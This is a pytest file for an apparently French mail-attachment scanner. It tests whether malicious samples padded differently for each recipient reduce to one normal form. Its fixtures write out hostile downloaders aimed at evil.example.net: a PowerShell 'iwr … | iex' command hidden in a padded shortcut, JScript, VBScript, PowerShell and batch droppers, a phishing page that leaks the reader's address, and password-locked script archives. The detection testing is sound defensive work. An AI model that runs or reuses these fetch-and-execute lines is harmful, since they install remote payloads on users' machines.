"""A file that is padded for each reader has one normal form; two that do something else have two."""

from __future__ import annotations

import contextlib
import hashlib
import io
import struct
import zipfile
import zlib
from base64 import b64encode
from collections.abc import Callable
from lzma import LZMAError

import pytest
from beffroi.scan import looking, rules, sevenzip

from tests import scan_samples as samples
from tests.mail_files import EXE, locked, packed
from tests.scan_samples import made

RULES = rules.Rules({rules.OWN: rules.own()})
READERS = ("a.dupont@beaune.test", "mairie@nuits.test")
NAMES = ("kq3", "zz_10")
FETCH = "-w hidden -c iwr https://evil.example.net/a.ps1 | iex"


def javascript(n: int, url: str = "https://evil.example.net/a") -> bytes:
    name, other = NAMES[n] + "a", NAMES[n] + "b"
    return (
        f"// {n * 77}\n/* {n} */ var {name} = new ActiveXObject('MSXML2.XMLHTTP'); function {other}({name}x) {{\n"
        f"{' ' * n}{name}.open('GET', '{url}'); return {name}x }} {other}(1);"
    ).encode()


def vbscript(n: int, verb: str = "Run") -> bytes:
    name = NAMES[n]
    return (
        f"' {n} l'adresse\r\nDim {name}\r\nrem {n}\r\nSet {name} = CreateObject(\"WScript.Shell\")\r\n"
        f'{name}.{verb} "https://evil.example.net/a\'b"\r\n'
    ).encode()


def powershell(n: int, host: str = "evil.example.net") -> bytes:
    name = f"${NAMES[n]}"
    return (
        f"# {n}\n<# {n}\n#> {name} = 'https://{host}/a#x'\nInvoke-WebRequest {name} -OutFile a.exe\n".encode()
    )


def batch(n: int, host: str = "evil.example.net") -> bytes:
    return f"@echo off\r\nrem {n}\r\n:: {n}\r\ncurl -o %TEMP%\\a.exe https://{host}/a\r\n".encode()


def page(n: int, words: str = "Votre facture", token: str = "") -> bytes:
    reader, packed_reader = READERS[n], b64encode(READERS[n].encode()).decode()
    return (
        f"<html><!-- {n * 99} --><body><p>{words} {token}</p><script>var {NAMES[n]} = '{packed_reader}'; // {n}\n"
        f"location = 'https://evil.example.net/#' + {NAMES[n]};</script><i>{reader}</i></body></html>"
    ).encode()


def shortcut(n: int, arguments: str = FETCH) -> bytes:
    return samples.shortcut("..\\" * n + "powershell.exe", arguments + " " * 300 * n, padding=bytes(5000 * n))


def protected(n: int, content: bytes = b"WScript.Echo(1)" * 9) -> bytes:
    return locked(packed(**{f"facture{n}__js": content, f"{n}__txt": b"%d" % n}))


def sealed(n: int, content: bytes = b"WScript.Echo(1)" * 90, name: str = "facture.js") -> bytes:
    """By AE-2, which tells no sum: the name, how long it is and how long it is packed."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo(name, (2026, 1, 1 + n, 0, 0, 0)), content, zipfile.ZIP_DEFLATED)
        archive.writestr(f"{n}.txt", b"%d" % n)
    sum_of_it = struct.pack("<I", zlib.crc32(content))
    return locked(out.getvalue()).replace(sum_of_it, bytes(4))


PADDED: dict[str, Callable[[int], bytes]] = {
    "JavaScript": javascript,
    "VBScript": vbscript,
    "PowerShell": powershell,
    "command line": batch,
    "page": page,
    "page in an archive": lambda n: packed(**{f"{n}__html": page(n)}),
    "shortcut": shortcut,
    "behind a password": protected,
    "behind a better password": sealed,
    "behind the password of a RAR": lambda n: samples.rar(
        "a\\facture.js", EXE * 99 + b"%d" % n, password="file"
    ),
    "behind the password of a RAR 4": lambda n: samples.rar4(
        f"{n}.js", EXE, cipher=hashlib.shake_128(b"%d" % n).digest(512)
    ),
}
OTHERS: dict[str, tuple[bytes, bytes]] = {
    "another address in a script": (javascript(0), javascript(0, "https://other.example.net/a")),
    "another verb": (vbscript(0), vbscript(0, "Popup")),
    "another address of PowerShell": (powershell(0), powershell(0, "other.example.net")),
    "another address of the command line": (batch(0), batch(0, "other.example.net")),
    "another text of a page": (page(0), page(0, "Votre colis")),
    "another token of a page": (page(0), page(0, token="Zm9vYmFyYmF6cXV4Zm9v")),
    "other arguments": (shortcut(0), shortcut(0, FETCH.replace("evil", "other"))),
    "longer, behind a better password": (sealed(0), sealed(0, b"WScript.Echo(1)" * 91)),
    "another name behind a better password": (sealed(0), sealed(0, name="devis.js")),
    "another content behind a password": (protected(0), protected(0, b"WScript.Echo(2)" * 9)),
}
FORMLESS: dict[str, bytes] = {
    "short arguments": samples.shortcut("chrome.exe", "--app"),
    "text": b"Bonjour, veuillez trouver le compte rendu du conseil municipal du 3 mars, merci.\r\n" * 9,
    "table": b"1;Dupont;12,50;https://a.example/x\r\n" * 9,
    "page without a script": b"<html><p>Compte rendu du conseil municipal du 3 mars</p></html>",
    "short, behind a better password": sealed(0, b"mot de passe du wifi de la salle des fetes : 1234"),
    "a RAR whose list needs the password": samples.rar("a.js", EXE * 99, password="list"),
    "a RAR 4 whose list needs the password": samples.rar4("a.js", EXE * 99, is_list_locked=True),
    "hidden by a better password": locked(packed(a__txt=b"")),
}


def forms(data: bytes) -> set[str]:
    return set(looking.examine(data, RULES.matches).files)


@pytest.mark.parametrize("name", PADDED)
def test_a_file_that_is_padded_for_each_reader_is_known_by_its_normal_form(name: str) -> None:
    one, other = PADDED[name](0), PADDED[name](1)
    assert one != other
    assert forms(one) & forms(other)


@pytest.mark.parametrize("name", OTHERS)
def test_what_does_something_else_has_another_form(name: str) -> None:
    one, other = OTHERS[name]
    assert forms(one) and forms(other)
    assert not forms(one) & forms(other)


@pytest.mark.parametrize("name", FORMLESS)
def test_what_is_no_script_or_says_too_little_has_no_form(name: str) -> None:
    assert forms(FORMLESS[name]) == set()


def test_the_normal_form_of_malware_is_told_as_malware() -> None:
    """Whoever has another copy meets the form, not the file."""
    first, second = (
        looking.examine(packed(facture__html=page(n).replace(b"<body>", b"<hta:application>")), RULES.matches)
        for n in (0, 1)
    )
    (form,) = set(first.malware) & set(second.malware)
    assert len(first.malware) == 2 and form in first.files


SEALED = made("zip", "none", {"a.exe": EXE}, password="1234", options="zip:encryption=zipcrypt")
"""As Windows reads it."""


@pytest.mark.parametrize("whole", [samples.LOCKED_7Z, samples.LOCKED_7Z_ALONE])
def test_a_file_behind_a_password_has_one_form_in_a_zip_and_in_a_7z(whole: bytes) -> None:
    assert len(forms(whole)) == 2
    assert forms(SEALED) < forms(whole)
    assert forms(made("7zip", "none", {"b.txt": samples.LOCKED_TEXT})) & forms(whole) == set()


def test_a_list_of_a_7z_that_is_no_good_tells_nothing_and_ends_well() -> None:
    """Cut, turned over, and counting more than there is."""
    for whole in (samples.LOCKED_7Z, samples.LOCKED_7Z_ALONE):
        for n in range(len(whole)):
            for broken in (
                whole[:n],
                whole[:n] + b"\xff" + whole[n + 1 :],
                whole[:n] + bytes(9) + whole[n + 9 :],
            ):
                with contextlib.suppress(ValueError, IndexError, LZMAError):
                    assert all(0 <= crc < 2**32 for crc, _ in sevenzip.locked(broken))
